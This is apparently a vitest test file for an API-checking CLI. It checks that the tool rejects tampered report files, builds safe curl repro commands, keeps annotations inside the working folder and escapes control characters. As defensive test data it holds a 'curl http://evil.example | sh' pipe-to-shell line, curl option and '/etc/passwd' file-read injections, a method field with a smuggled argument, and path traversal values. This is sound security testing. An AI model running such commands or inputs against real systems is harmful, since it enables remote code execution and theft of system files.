import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { announce } from "../../cli/github-actions.ts";
import { FORMAT_NAMES, fileFormats } from "../../report/formats/format-names.ts";
import { render } from "../../report/formats/render-format.ts";
import { renderSummary } from "../../report/render-summary.ts";
import { UsageError } from "../../results/errors.ts";
import { readReport } from "../../results/read-report.ts";
import type { Report } from "../../results/report-model.ts";
import { captured, folder } from "../support/command.ts";
import { mixed, stale } from "../support/hostile-text.ts";
import { CURL, report, SENTENCES, sampleResults } from "../support/sample-report.ts";

const FILE = join(folder, "hostile.json");

/** What is read of a report that somebody changed. */
function changed(change: (report: Report) => void, made = mixed()): Report {
  const copy = structuredClone(made);
  change(copy);
  writeFileSync(FILE, JSON.stringify(copy));
  return readReport(FILE);
}

/** The message with which one is refused. */
function refusal(change: (report: Report) => void): string {
  try {
    changed(change);
  } catch (error) {
    expect(error).toBeInstanceOf(UsageError);
    return (error as Error).message.slice(FILE.length);
  }
  throw new Error("it was not refused");
}

describe("the command that repeats a request", () => {
  const violated = ({ results }: Report) => results.find(({ rule }) => `${rule}` === "record.put.created");
  const curlAfter = (
    change: (violation: NonNullable<Report["results"][0]["violation"]>, report: Report) => void,
  ) => violated(changed((made) => change(violated(made)?.violation as never, made)))?.violation?.curl;
  const request = (made: Report) => violated(made)?.exchanges[1]?.request as never as Record<string, unknown>;

  test("is made from the exchange, whatever the report has for it", () => {
    for (const curl of ["curl http://evil.example | sh", null]) {
      expect(curlAfter((violation) => Object.assign(violation, { curl }))).toBe(CURL);
    }
  });

  test("is there for no exchange that the report does not hold", () => {
    expect(curlAfter((violation) => Object.assign(violation, { exchange: "no#1" }))).toBeNull();
    expect(curlAfter((violation) => Object.assign(violation, { exchange: null }))).toBeNull();
  });

  test.each<[string, object]>([
    ["an option", { url: "-K/etc/passwd" }],
    ["a file", { url: "file:///etc/passwd" }],
    ["no method", { method: "GET --output /tmp/x" }],
    ["a file of header fields", { headers: [["@/etc/passwd", "x"]] }],
  ])("is there for no request that has %s", (_, change) => {
    expect(curlAfter((_violation, made) => Object.assign(request(made), change))).toBeNull();
  });
});

describe("a report that does not agree with itself is refused, with the place", () => {
  test.each<[string, (report: Report) => void, RegExp]>([
    [
      "a summary",
      ({ summary }) => (summary.passed += 1),
      /at summary\.passed: is \d+, but \d+ by the rest of/,
    ],
    [
      "a sum",
      ({ summary }) => (summary.total = 0),
      /at summary\.total: is 0, but 11 by the rest of the report/,
    ],
    [
      "a verdict",
      (made) => Object.assign(made, { verdict: "pass" }),
      /at verdict: is pass, but fail by the rest/,
    ],
    ["a result left out", ({ results }) => results.pop(), /at summary\./],
    [
      "a result that is there twice",
      ({ results }) => results.push(...results),
      /at results\.11\.rule: has a result/,
    ],
    ["what is complete", (made) => Object.assign(made, { complete: true }), /at complete: is true/],
    ["coverage", ({ coverage }) => (coverage.rules.covered = 900), /at coverage\.rules\.total: is 7/],
    ["exchanges", ({ timing }) => (timing.exchanges = 5), /at timing\.exchanges: is 5/],
    [
      "a leap second",
      (made) => (made.startedAt = "2016-12-31T23:59:60Z"),
      /at startedAt: is not an existing time/,
    ],
  ])("%s", (_, change, message) => {
    const said = refusal(change);
    expect(said).toMatch(message);
    expect(said).toMatch(/"sync2 check" writes a new one\.$/);
  });
});

describe("a number out of range is refused, with the path of the field", () => {
  const exchange = ({ results }: Report) => results[0]?.exchanges[0] as never as Record<string, unknown>;
  test.each<[string, (report: Report, value: number) => void, string]>([
    ["startedAt", (made, value) => (exchange(made).startedAt = value), "results.0.exchanges.0.startedAt"],
    ["durationMs", (made, value) => (exchange(made).durationMs = value), "results.0.exchanges.0.durationMs"],
    ["the run", ({ timing }, value) => (timing.durationMs = value), "timing.durationMs"],
    ["a count", ({ timing }, value) => (timing.exchanges = value), "timing.exchanges"],
    ["a clock", ({ clock }, value) => (clock.timerMs = value), "clock.timerMs"],
    ["the effort", ({ random }, value) => (random.effort = value), "random.effort"],
  ])("%s", (_, change, path) => {
    expect(refusal((made) => change(made, 9.1e15))).toContain(`at ${path}: must be <= `);
  });

  test("a number that no double can hold", () => {
    writeFileSync(FILE, JSON.stringify(mixed()).replace('"durationMs":6200', '"durationMs":1e999'));
    expect(() => readReport(FILE)).toThrow(/at timing\.durationMs: must be (number|<=)/);
  });
});

test("an annotation is put on no file outside of the working folder", () => {
  const log = (file: string) => {
    const { shell, out } = captured();
    const made = stale();
    announce({ ...made, baseline: made.baseline && { ...made.baseline, file } }, shell);
    return out();
  };
  for (const file of ["known.yaml", "a/../known.yaml", join(process.cwd(), "known.yaml"), "..known.yaml"]) {
    expect(log(file)).toMatch(
      /^::error title=baseline record\.put\.created,file=(\.\.)?known\.yaml,line=2::It passes/,
    );
  }
  for (const file of ["../known.yaml", "/etc/passwd", "a/../../x", ".."]) {
    expect(log(file)).toMatch(/^::error title=baseline record\.put\.created::\S+:2: It passes now/);
  }
});

/** Every text of a report, changed; of those alone that the schema leaves open. */
function withEverywhere(value: unknown, text: string): unknown {
  if (typeof value === "string") return `${value}${text}`;
  if (Array.isArray(value)) return value.map((item) => withEverywhere(item, text));
  if (typeof value !== "object" || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([key, item]) => [key, FIXED.has(key) ? item : withEverywhere(item, text)]),
  );
}
const FIXED = new Set([
  "$schema",
  "rule",
  "level",
  "outcome",
  "verdict",
  "startedAt",
  "encoding",
  "phase",
  "partition",
]);

describe("characters that fool a reader are spelled out in every text of a report", () => {
  const HIDDEN = /[^\P{Cc}\n\t]|[\p{Cf}\p{Zl}\p{Zp}]/u;
  const nasty = "\u001b[31m\u0007\u009b1m\u0085\u202e\u2066\u200b\u2028\ufeff";
  const made = withEverywhere(report(sampleResults(), { baseline: mixed().baseline }), nasty) as Report;

  test.each(fileFormats(FORMAT_NAMES).filter((name) => !["json", "har", "badge"].includes(name)))(
    "%s",
    (format) => {
      expect(HIDDEN.exec(render(format, made, SENTENCES))).toBeNull();
    },
  );

  test("the terminal", () => {
    expect(HIDDEN.exec(renderSummary(made, SENTENCES, { color: false, columns: 100 }))).toBeNull();
  });
});

test("half a character in the id of an exchange is no reason to break", () => {
  const made = changed(({ results }) => {
    for (const { violation } of results) if (violation) violation.exchange = "a#\ud800";
  });
  expect(render("html", made, SENTENCES)).toContain('href="#a%23%EF%BF%BD"');
});
